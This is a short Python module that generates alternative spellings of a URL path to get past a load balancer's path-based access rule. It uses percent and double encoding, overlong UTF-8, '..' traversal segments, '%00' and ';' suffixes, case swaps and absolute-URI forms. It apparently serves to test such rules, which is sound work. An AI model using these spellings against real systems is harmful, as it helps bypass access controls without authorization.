"""Other spellings of a path, as an attacker sends them to bypass a rule of a load balancer on the path."""

from collections.abc import Iterator

_TWIN_PREFIX = "/api/v1"


def other_spellings(path: str) -> Iterator[str]:
    """Yield request targets that some server treats like a path of two segments, or like its twin below /api/v1."""
    for plain in (path, f"{_TWIN_PREFIX}{path}"):
        yield from _encoded(plain)
        yield from _with_other_segments(plain)
        yield from (f"{plain}{end}" for end in ("%00", "%20", "%23", "%3Fx=1", ";x=1", ".", "/.", "/..", "%2f", "\\"))
        yield from (plain.upper(), plain.title(), plain.swapcase())
        yield from (f"http://registry/{plain}", f"http://registry{plain}%2f", f"//registry{plain}", f"*{plain}")
    yield from (
        f"{prefix}{path}"
        for prefix in ("/api//v1", "/api/v1/api/v1", "/api/./v1", "/API/v1", "/api/v1.", "/api/v1;x", "/api/v2/../v1")
    )


# Separators and segments that some servers remove or treat like a slash.
_SEPARATORS = ["//", "///", "/./", "/x/../", "/%2e/", "/x/%2e%2e/", "/x/..%2f", "/;/", "\\", "/%09", "/\t", "%5c"]


def _encoded(path: str) -> Iterator[str]:
    """Yield spellings with one or all characters percent-encoded, once and twice."""
    for at, character in enumerate(path):
        if at:  # a target that does not begin with a slash is no path
            for code in {f"%{ord(character):02x}", f"%{ord(character):02X}", f"%25{ord(character):02x}"}:
                yield f"{path[:at]}{code}{path[at + 1 :]}"
    yield f"/{''.join(f'%{ord(character):02x}' for character in path[1:])}"
    yield path.replace("a", "%c1%a1")  # an overlong form in UTF-8
    yield path.replace("a", "%u0061")


def _with_other_segments(path: str) -> Iterator[str]:
    for at, character in enumerate(path):
        if character == "/":
            yield from (f"{path[:at]}{separator}{path[at + 1 :]}" for separator in _SEPARATORS)
